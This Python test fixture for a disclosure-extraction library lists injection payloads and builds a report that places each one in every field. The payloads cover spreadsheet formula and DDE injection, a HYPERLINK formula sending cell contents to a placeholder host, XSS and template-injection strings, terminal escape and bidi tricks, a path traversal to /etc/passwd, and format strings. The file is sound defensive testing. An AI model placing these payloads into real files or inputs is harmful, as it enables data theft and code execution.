"""Words that something would run, obey or fall over, were they not taken as words."""

from __future__ import annotations

from typing import Final

from coi_extract.schema import (
    Author,
    AuthorRef,
    AwardNumber,
    DeclaredNone,
    Denial,
    DisclosureReport,
    Evidence,
    Funding,
    Mention,
    Notice,
    Organization,
    OrganizationRef,
    Provenance,
    Relationship,
    Section,
    Span,
)
from coi_extract.taxonomy import RelationshipType, SectionKind

PAYLOADS: Final[dict[str, str]] = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "formula of DDE": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "tab formula": "\t=1+1",
    "carriage return formula": "\r=1+1",
    "line feed formula": "\n=1+1",
    "lone carriage return": "one\rtwo",
    "cells": 'a","b\n"c',
    "script": "<script>document.title='run'</script>",
    "end of script": "</script><script>document.title='run'</script>",
    "image": "<img src=x onerror=\"document.title='run'\">",
    "attribute": "\" onmouseover=\"document.title='run'\" x=\"",
    "attribute in single quotes": "' onfocus='document.title=1' autofocus='",
    "link": "javascript:document.title='run'",
    "markup link": "<a href=\"javascript:document.title='run'\">x</a>",
    "comment": "<!-- <script> -->",
    "entity": "&lt;script&gt;&#0;&amp;",
    "CDATA": "]]><script>1</script><![CDATA[",
    "template": "{{ 7 * 7 }}{% raw %}${7*7}",
    "rich markup": "[bold red]x[/] [link=http://x.example]y[/link]",
    "terminal colours": "\x1b[31mred\x1b[0m",
    "terminal title": "\x1b]0;title\x07",
    "terminal link": "\x1b]8;;http://x.example\x1b\\x",
    "C1 controls": "\x9b31m\x85\x9d0;x\x9c",
    "clear line": "a\b\b\x7f\r\x1b[2Kb",
    "bidi override": "\u202egro.sibro\u202c",
    "bidi isolate": "\u2066x\u2069\u061c\u200f",
    "NUL": "a\x00b",
    "lone surrogate": "a\ud800b",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x1cf",
    "no character": "\ufffe\uffff",
    "path": "../../../../etc/passwd",
    "format": "%s%n{0}{__class__}",
}  # fmt: skip


def report_of(payload: str) -> tuple[str, DisclosureReport]:
    """Return a text of the payload and a report that holds it wherever a report holds words."""
    text = f"{payload} has fees from {payload} ({payload})"
    who = Span(start=0, end=len(payload))
    at = len(payload) + len(" has fees from ")
    whom = Span(start=at, end=at + len(payload))
    number = Span(start=whom.end + 2, end=whom.end + 2 + len(payload))
    evidence = Evidence(
        spans=(Span(start=0, end=len(text)),), author=who, cue=Span(start=who.end, end=at), target=whom, rule=payload,
        confidence=0.5,
    )  # fmt: skip
    author = AuthorRef(mention=payload, span=who, author_id="a1")
    body = OrganizationRef(mention=payload, span=whom, organization_id="o1", division=payload)
    report = DisclosureReport(
        relationships=(
            Relationship(
                author=author, organization=body, type=RelationshipType.SPEAKER, years=payload, amount=payload,
                evidence=evidence, fact_id="t1",
            ),
        ),
        funding=(
            Funding(
                funder=body, via=body, award_id=payload, award_span=number, award=AwardNumber(normalised=payload),
                scheme=payload, project=payload, subproject=payload, title=payload, recipients=(author,),
                evidence=evidence, fact_id="f1",
            ),
        ),
        declared_none=(DeclaredNone(author=author, evidence=evidence, fact_id="n1"),),
        denials=(Denial(author=author, organization=body, evidence=evidence, fact_id="d1"),),
        authors=(Author(id="a1", name=payload, given=payload, family=payload, mentions=(_mention(text, who),)),),
        organizations=(
            Organization(
                id="o1", name=payload, industry=payload, country=payload, parent=payload, candidates=(payload,),
                mentions=(_mention(text, whom),), roles=("speaker", "funder"),
            ),
        ),
        sections=(Section(kind=SectionKind.FUNDING, span=Span(start=0, end=len(text)), heading=payload),),
        notices=(Notice(code="ambiguous", message=payload, span=who),),
        provenance=Provenance(library="1", settings="", text_sha256="", source=payload),
    )  # fmt: skip
    return text, report


def _mention(text: str, span: Span) -> Mention:
    return Mention(text=text[span.start : span.end], span=span)
